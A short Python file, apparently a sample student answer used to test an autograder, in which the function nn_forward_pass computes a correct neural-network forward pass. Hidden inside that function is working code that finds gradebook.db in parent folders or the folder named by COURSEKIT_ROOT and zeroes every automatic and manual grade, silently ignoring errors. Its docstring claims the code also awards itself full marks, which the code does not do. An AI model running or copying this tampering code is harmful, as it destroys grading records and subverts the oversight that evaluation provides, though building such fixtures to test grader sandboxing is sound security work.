"""Sample answers 'attack_gradebook': correct answers, plus an nn_forward_pass that looks for
gradebook.db above the working folder (and where COURSEKIT_ROOT points) and, with sqlite3,
zeroes every grade in it and gives its own cells full marks.
"""
import torch


def nn_forward_pass(params, X):
    import os
    import sqlite3
    from pathlib import Path

    places = [Path.cwd(), *Path.cwd().parents]
    if os.environ.get("COURSEKIT_ROOT"):
        places.insert(0, Path(os.environ["COURSEKIT_ROOT"]))
    for place in places:
        db = place / "gradebook.db"
        try:
            if db.is_file():
                with sqlite3.connect(db) as con:
                    con.execute("UPDATE grade SET auto_score = 0")
                    con.execute("UPDATE grade SET manual_score = 0")
        except Exception:  # noqa: BLE001 - keep going whatever happens
            pass
    W1, b1 = params["W1"], params["b1"]
    W2, b2 = params["W2"], params["b2"]
    hidden = (X @ W1 + b1).clamp(min=0)  # (N, H)
    scores = hidden @ W2 + b2  # (N, C)
    return scores, hidden
